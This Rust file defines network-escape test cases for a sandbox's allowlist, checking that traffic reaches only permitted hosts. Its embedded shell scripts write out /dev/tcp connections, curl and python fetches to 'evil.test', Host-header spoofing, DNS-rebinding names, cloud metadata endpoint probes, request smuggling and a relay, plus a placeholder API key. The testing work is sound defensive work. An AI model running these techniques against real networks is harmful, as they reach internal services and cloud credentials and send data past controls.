//! Section D: the network. What leaves this side is looked at packet by packet, and what arrives request by request.

pub mod names;
pub mod sessions;

use super::case::{Action, Around, CASE, Case, EVERYWHERE, ONE, OWNER, Verdict};
use super::scene::Scene;
use super::stage::Stage;
use super::wire;

/// What may be reached in most cases.
pub const RULES: &str = "network allowlist {
    allow \"allowed.test\" \"*.wide.test\"
    allow \"rebind.test\" \"six.test\" \"mapped.test\" \"any.test\" \"own.test\" \"own-six.test\" \"flip.test\"
    allow \"both.test\" \"private.test\" \"docker.test\"
    allow \"meta.test\" \"meta-six.test\" \"meta-alibaba.test\" \"meta-azure.test\"
    allow \"allowed.test\" port=18080
}\n";

/// A case with a network of its own.
pub const NETWORK: Case = Case { config: RULES, around: Around::Internet, ..CASE };

/// Nothing has left for a host that may not be reached, and no service of this side was reached.
pub fn nobody_else(scene: &Scene<'_>) -> Verdict {
    let internet = scene.stage.internet();
    let (strangers, served) = (internet.strangers(), internet.served());
    scene.did_run().and(|| {
        Verdict::open_if(!strangers.is_empty(), format!("sent {}", strangers.join(", "))).and(|| {
            Verdict::open_if(!served.is_empty(), format!("services of the host were reached: {served:?}"))
        })
    })
}

/// As [`nobody_else`], and no request arrived that is not for the host that may be reached.
fn no_other_request(scene: &Scene<'_>) -> Verdict {
    let asked = scene.stage.internet().web.take();
    let other: Vec<String> = asked
        .iter()
        .filter(|asked| !asked.host.trim_end_matches(":80").ends_with("allowed.test"))
        .map(|asked| format!("`{}` of {}", asked.line, asked.host))
        .collect();
    nobody_else(scene).and(|| Verdict::open_if(!other.is_empty(), format!("arrived: {}", other.join(", "))))
}

/// Not one packet has left.
pub fn nothing_left(stage: &Stage) -> Verdict {
    let packets = stage.internet().packets();
    let first = packets.first().map(ToString::to_string).unwrap_or_default();
    Verdict::open_if(!packets.is_empty(), format!("{} packets, the first one {first}", packets.len()))
}

/// Every tool that is there reached the host that may be reached.
fn reached_by_all(scene: &Scene<'_>) -> Verdict {
    let asked = scene.stage.internet().web.take();
    let tools = scene.ran.out.lines().filter_map(|line| line.strip_prefix("@tool "));
    let missing: Vec<&str> = tools
        .filter(|tool| !asked.iter().any(|asked| asked.line.starts_with(&format!("GET /{tool} "))))
        .collect();
    nobody_else(scene).and(|| Verdict::open_if(!scene.ran.out.contains("@tool"), "no tool was there")).and(
        || {
            let said = scene.ran.short();
            Verdict::open_if(
                !missing.is_empty(),
                format!("what is allowed was not reached by {missing:?}: {said}"),
            )
        },
    )
}

/// A tool that asks for both hosts, if it is there.
macro_rules! tools {
    ($($name:literal: $call:literal),+) => {
        concat!("unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy\n",
            $("if command -v ", $name, " >/dev/null; then echo @tool ", $name, "
                for U in http://evil.test/", $name, " https://evil.test/", $name,
                    " https://allowed.test/", $name, "; do ", $call, "; done >&2; fi\n"),+)
    };
}

macro_rules! script {
    ($id:literal, $tries:literal, $check:expr, $script:expr) => {
        Case { id: $id, tries: $tries, action: Action::Script($script, $check), ..NETWORK }
    };
}

pub const CASES: &[Case] = &[
    Case {
        columns: EVERYWHERE,
        id: "D1",
        tries: "interfaces of the host",
        action: Action::Probe(&["interfaces"]),
        ..CASE
    },
    script!(
        "D2",
        "addresses of the host, its neighbours and its services",
        nobody_else,
        "for to in 11.93.7.1 11.93.7.2 11.95.0.2 172.17.0.1 192.168.1.1 10.0.0.1 8.8.8.8 127.0.0.1 127.0.0.53 ::1 \
                ::ffff:127.0.0.1 fd93:7::1 fd93:7::2 fe80::1 2001:db8::1; do
            for port in 22 80 443 8080 9418 18080; do
                ( printf 'GET / HTTP/1.0\\r\\n\\r\\n' >/dev/tcp/$to/$port ) 2>/dev/null &
            done
        done; wait; true"
    ),
    Case {
        columns: ONE,
        ..script!(
            "D3",
            "hosts that are not allowed, by tools that know no proxy",
            reached_by_all,
            tools!(
                "curl": "curl -sS -m 5 --noproxy '*' $U",
                "python3": "python3 -c 'import sys, urllib.request as u; u.urlopen(sys.argv[1], timeout=5)' $U",
                "node": "node -e 'fetch(process.argv[1]).catch(() => 0)' $U"
            )
        )
    },
    Case {
        columns: ONE,
        ..script!(
            "D3.java",
            "hosts that are not allowed, by Java",
            reached_by_all,
            "cat > /tmp/Get$$.java <<'E'
                public class Get { public static void main(String[] a) throws Exception { for (var u : a) try {
                    var c = (java.net.HttpURLConnection) new java.net.URI(u).toURL().openConnection();
                    c.setConnectTimeout(5000); c.setReadTimeout(5000); c.getResponseCode(); }
                    catch (java.io.IOException e) { System.err.println(e); } } }
E
                command -v java >/dev/null || exit 0
                echo @tool java
                java /tmp/Get$$.java http://evil.test/java https://evil.test/java https://allowed.test/java"
        )
    },
    script!(
        "D4",
        "an address, with the name of a host that is allowed",
        no_other_request,
        "curl -sS -m 3 http://11.95.0.2/ -H 'Host: allowed.test' & curl -sS -m 3 'http://[fd93:7::2]/' -H 'Host: allowed.test' &
        curl -sSk -m 3 --connect-to allowed.test:443:11.95.0.2:443 https://allowed.test/ &
        curl -sSk -m 3 --connect-to allowed.test:443:evil.test:443 https://allowed.test/ &
        get 11.95.0.2 80 allowed.test & get 11.95.0.2 80 11.95.0.2 & wait; true"
    ),
    Case {
        config: FRONTED,
        prepare: |world| world.write("home/key", KEY),
        ..script!(
            "D6",
            "another host's name in a request to one whose requests are decided, or that has a secret",
            |scene| {
                let asked = scene.stage.internet().web.take();
                scene.did_run().and(|| Verdict::open_if(!asked.is_empty(), format!("arrived: {asked:?}"))).and(
                    || {
                        let times = scene.ran.out.matches("\n421").count();
                        Verdict::open_if(times != 4, format!("answered 421 {times} times"))
                    },
                )
            },
            "for version in --http1.1 --http2; do for host in narrow.test api.test; do
                curl -sSk -m 5 $version https://$host/v1/a -H 'Host: evil.test' -o /dev/null -w '\\n%{http_code}'
            done; done; echo"
        )
    },
    script!(
        "D7",
        "another host's request through a tunnel to the plain port of one that is allowed",
        no_other_request,
        "tunnel allowed.test 80; printf 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n' >&3
        timeout 3 cat <&3; true"
    ),
    script!(
        "D8",
        "ports of a host that is allowed, which no rule names",
        |scene| {
            let packets = scene.stage.internet().packets();
            let other = packets.iter().find(|packet| ![53, 80, 443].contains(&packet.port));
            let said = other.map(ToString::to_string).unwrap_or_default();
            scene.did_run().and(|| Verdict::open_if(other.is_some(), said))
        },
        "for port in 22 25 8080 853; do ( tunnel allowed.test $port; echo hello >&3 ) 2>/dev/null & get allowed.test $port & done
        wait; true"
    ),
    script!(
        "D10",
        "names that are allowed and lead to the host, its own addresses or its neighbours",
        nobody_else,
        "for name in rebind six mapped any own own-six both private docker; do
            curl -sS -m 3 http://$name.test/ & curl -sSk -m 3 https://$name.test/ &
            ( tunnel $name.test 80; printf 'GET / HTTP/1.1\\r\\nHost: '$name'.test\\r\\n\\r\\n' >&3; timeout 1 cat <&3 ) &
        done >/dev/null 2>&1; wait; true"
    ),
    script!(
        "D10.flip",
        "a name that leads elsewhere when it is looked up again",
        nobody_else,
        "for i in 1 2 3 4 5 6; do curl -sS -m 1 http://flip.test/; curl -sSk -m 1 https://flip.test/; done >/dev/null 2>&1; true"
    ),
    script!(
        "D11",
        "services that tell a virtual machine its secrets",
        nobody_else,
        "for name in meta meta-six meta-alibaba meta-azure; do
            curl -sS -m 3 http://$name.test/latest/meta-data/ & curl -sSk -m 3 https://$name.test/ & done >/dev/null 2>&1
        for to in 169.254.169.254 100.100.100.200 168.63.129.16 '[fd00:ec2::254]'; do
            curl -sS -m 3 http://$to/latest/meta-data/ & curl -sS -m 3 http://$to/ -H 'Host: allowed.test' &
        done >/dev/null 2>&1; wait; true"
    ),
    script!(
        "D12",
        "names that are like those which are allowed",
        |scene| {
            nobody_else(scene).and(|| {
                let asked = scene.stage.internet().web.take();
                Verdict::open_if(asked.len() != 1, format!("not the one that is allowed: {asked:?}"))
            })
        },
        "for name in wide.test evilwide.test x.wide.test.evil.com a.allowed.test test notallowed.test allowed.test.evil.com \
                allowed.tes; do
            curl -sS -m 3 http://$name/ & curl -sSk -m 3 https://$name/ &
        done >/dev/null 2>&1; curl -sS -m 3 http://x.wide.test/; wait; true"
    ),
    script!(
        "D13",
        "a host that is not allowed, to which one that is allowed sends on",
        nobody_else,
        "curl -sSL -m 3 'http://allowed.test/away?http://evil.test/'; curl -sSLk -m 3 'https://allowed.test/away?https://evil.test/'
        true"
    ),
    script!(
        "D13.second",
        "a second request, for another host, on a connection that is allowed",
        no_other_request,
        "say() { printf 'GET /1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /2 HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n'; }
        ( exec 3<>/dev/tcp/allowed.test/80; say >&3; timeout 2 cat <&3 )
        ( exec 3<>/dev/tcp/allowed.test/80; say | head -c 60 >&3; sleep 0.3; say | tail -c +61 >&3; timeout 2 cat <&3 )
        curl -sS -m 3 -x http://127.0.0.1:3128 http://allowed.test/ http://evil.test/ || curl -sS http://evil.test/; true"
    ),
    Case {
        columns: OWNER,
        ..script!(
            "D19",
            "a relay inside, which asks in its own name",
            nobody_else,
            r#"python3 - <<'E'
import os, socket, threading
server = socket.create_server(("127.0.0.1", 9999))
outside = os.environ.get("PIER_SANDBOX") is None
def relay():
    while True:
        one, _ = server.accept()
        try:
            to = ("evil.test", 80) if outside else ("127.0.0.1", 3128)
            two = socket.create_connection(to, 3); two.settimeout(3); one.settimeout(3)
            two.sendall(one.recv(4096)); one.sendall(two.recv(4096)); two.sendall(one.recv(4096)); one.sendall(two.recv(4096))
        except OSError: pass
        one.close()
threading.Thread(target=relay, daemon=True).start()
for port in (80, 443, 22):
    s = socket.create_connection(("127.0.0.1", 9999)); s.settimeout(3)
    try:
        s.sendall(b"CONNECT evil.test:%d HTTP/1.1\r\n\r\n" % port); s.recv(4096)
        s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"); s.recv(4096)
    except OSError: pass
E
true"#
        )
    },
    Case {
        config: "network allowlist\n",
        ..script!(
            "D24.empty",
            "the network, where nothing is allowed",
            |scene| scene.did_run().and(|| nothing_left(scene.stage)),
            ANYTHING
        )
    },
    Case {
        config: "",
        ..script!(
            "D24.absent",
            "the network, of which the file says nothing",
            |scene| scene.did_run().and(|| nothing_left(scene.stage)),
            ANYTHING
        )
    },
    Case {
        config: "netwrok allowlist { allow \"allowed.test\"; }\n",
        ..script!(
            "D24.typo",
            "the network, where the file has a spelling mistake",
            |scene| {
                nothing_left(scene.stage).and(|| {
                    let ran = scene.ran.out.contains("@ran");
                    Verdict::open_if(ran, format!("it was started: {}", scene.ran.short()))
                })
            },
            ANYTHING
        )
    },
    Case {
        config: "network allowlist {\n allow allowed.test\n bytes allowed.test up=\"100KiB\"\n}\n",
        columns: ONE,
        ..script!(
            "D27",
            "more bytes out than may be sent",
            within_its_bytes,
            "yes | head -c 5000000 | curl -sS -m 3 -T - http://allowed.test/
            head -c 200000 /dev/zero | curl -sSk -m 3 -T - https://allowed.test/; true"
        )
    },
];

fn within_its_bytes(scene: &Scene<'_>) -> Verdict {
    let bytes = wire::bytes(&scene.stage.internet().packets());
    scene
        .did_run()
        .and(|| Verdict::open_if(bytes > 100 * 1024, format!("sent {bytes} bytes")))
        .and(|| Verdict::open_if(bytes < 50 * 1024, format!("sent no more than {bytes} bytes")))
        .and(|| {
            let log = scene.stage.pier(&["net", "log"]);
            Verdict::open_if(!log.said("are used up"), format!("not logged: {}", log.short()))
        })
}

const ANYTHING: &str =
    "for name in allowed evil; do curl -sS -m 3 http://$name.test/; curl -sSk -m 3 https://$name.test/; done
    get 11.95.0.1 80 allowed.test; getent hosts evil.test; true";

const KEY: &str = "sk-ant-api03-Zz9Yy8Xx7Ww6Vv5-Uu4_Tt3";

const FRONTED: &str = "env { secret API_KEY host=api.test from=\"file:~/key\" header=\"x-api-key\"; }
network allowlist { allow api.test; allow narrow.test methods=GET paths=\"/v1/*\"; }\n";
